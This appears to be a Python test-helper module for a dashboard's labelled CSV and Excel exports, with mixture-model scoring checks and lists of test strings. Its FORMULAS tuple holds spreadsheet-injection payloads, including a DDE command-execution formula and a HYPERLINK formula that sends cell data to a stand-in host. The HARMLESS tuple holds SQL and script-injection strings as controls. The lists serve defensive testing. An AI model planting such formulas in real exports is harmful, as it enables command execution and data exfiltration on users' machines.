"""Tables to be labelled, and the labelled ones as others read them."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Sequence
from typing import Any

import numpy as np
import openpyxl
from python_calamine import CalamineWorkbook
from scipy.special import logsumexp
from scipy.stats import multivariate_normal

from dashboard.analysis import Fit
from dashboard.data import Table, samples
from dashboard.data.reading import read
from dashboard.data.table import Column
from dashboard.engine import Mixture
from dashboard.exports import Model
from dashboard.exports.labelled import labelled_csv, labelled_xlsx
from tests.fits import fitted

Cells = dict[str, list[Any]]


FORMULAS = (
    "=1+1", "+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example?"&A1,"x")', "\t=1", "\r=1", "\tx", "\rx",
    "\nx", "  =1+1", "\u00a0=1", "\u3000＝1", "\u200e=1", "\u202e=1", "\ufeff=1", "\x00=1",
    "-1-1", "-", "--1", "-1)", "-e1", "-x", "+886 2 1234",
)  # fmt: skip


HARMLESS = (
    "-1", "-1.5", "-.5", "-1,5", "-1e-5", "1-1", "a=b", "'=1", "x\ty", "x\r\ny", "a,b", 'a "b"',
    '"', ",", "' OR 1=1 --", "</script><script>", "*/", "\\", "\\n", "__proto__", "😀", "標，記",
    "a\u202eb", "_x0041_", "http://a.example", "<r>", "<t>&amp;", "nan", "a;b", "#", "é" * 9,
)  # fmt: skip


def texts_column(label: str, texts: Sequence[str | None], key: str = "c1") -> Column:
    levels = list(dict.fromkeys(text for text in texts if text is not None))
    codes = [-1 if text is None else levels.index(text) for text in texts]
    return Column(key, label, "text", np.array(codes, dtype=np.int32), levels)


def table_of(*columns: Column) -> Table:
    return Table("made", columns, len(columns[0].values))


def holed_fit() -> Fit:
    """Iris, read with every seventh number and every fifth species missing."""
    iris = samples.load("iris")
    rows = zip(
        *(column.texts() if column.levels else column.values for column in iris), strict=True
    )
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerow(column.label for column in iris)
    for i, (*numbers, species) in enumerate(rows):
        holed = ["" if (4 * i + j) % 7 == 0 else number for j, number in enumerate(numbers)]
        writer.writerow([*holed, "" if i % 5 == 0 else species])
    return fitted(read(io.BytesIO(source.getvalue().encode()), "iris"))


def line(n: int, label: str = "x") -> Column:
    return Column("c0", label, "numeric", np.linspace(-3, 3, n))


def model_of(names: Sequence[str] = ("1", "2"), column: str = "x") -> Model:
    K = len(names)
    mixture = Mixture(np.full(K, 1 / K), np.arange(K)[:, None] * 2.0 - 1, np.ones((K, 1, 1)))
    return Model(mixture, (column,), tuple(names), -3.0, 0.01, {})


def csv_bytes(model: Model, table: Table) -> bytes:
    return b"".join(labelled_csv(model, table))


def records(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def by_csv(model: Model, table: Table) -> Cells:
    """Columns of texts, by their names."""
    header, *rows = records(csv_bytes(model, table))
    assert len(set(header)) == len(header)
    return dict(zip(header, map(list, zip(*rows, strict=True)), strict=True))


def workbook(model: Model, table: Table) -> io.BytesIO:
    file = io.BytesIO()
    labelled_xlsx(model, table, file)
    return file


def by_openpyxl(file: io.BytesIO, sheet: str = "Rows") -> Cells:
    header, *rows = openpyxl.load_workbook(file)[sheet].iter_rows(values_only=True)
    assert len(set(header)) == len(header)
    return dict(zip(map(str, header), map(list, zip(*rows, strict=True)), strict=True))


def by_calamine(file: io.BytesIO, sheet: str = "Rows") -> Cells:
    """As openpyxl gives it, but whole numbers are floats."""
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue()))
        .get_sheet_by_name(sheet)
        .to_python()
    )
    cells = [[None if cell == "" else cell for cell in row] for row in rows[1:]]
    return dict(zip(map(str, rows[0]), map(list, zip(*cells, strict=True)), strict=True))


def judged(model: Model, X: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Probabilities and log-densities by SciPy."""
    mixture = model.mixture
    parts = np.stack(
        [
            np.log(weight) + multivariate_normal(mean, covariance).logpdf(X).reshape(len(X))
            for weight, mean, covariance in zip(
                mixture.weights, mixture.means, mixture.covariances, strict=True
            )
        ],
        axis=1,
    )
    log_densities = logsumexp(parts, axis=1)
    return np.exp(parts - log_densities[:, None]), log_densities


def require_scores(cells: Cells, model: Model, X: np.ndarray) -> None:
    """That the new columns of the whole rows X (n, d) are as SciPy has them."""
    probabilities, log_densities = judged(model, X)
    for k, name in enumerate(model.names):
        written = np.array(cells[f"probability of {name}"], dtype=float)
        np.testing.assert_allclose(written, probabilities[:, k], rtol=0, atol=1e-9)
    written = np.array(cells["log_density"], dtype=float)
    np.testing.assert_allclose(written, log_densities, rtol=1e-9, atol=1e-9)
    assert cells["component"] == [model.names[k] for k in probabilities.argmax(axis=1)]
    anomalies = (log_densities < model.threshold).astype(int)
    np.testing.assert_array_equal(np.array(cells["anomaly"], dtype=int), anomalies)


def plain(text: str) -> str:
    """The text without what XML cannot hold."""
    kept = (c for c in text if c in "\t\n\r" or (" " <= c < "\ufffe" or c > "\uffff"))
    return "".join(c for c in kept if unicodedata.category(c) != "Cs")
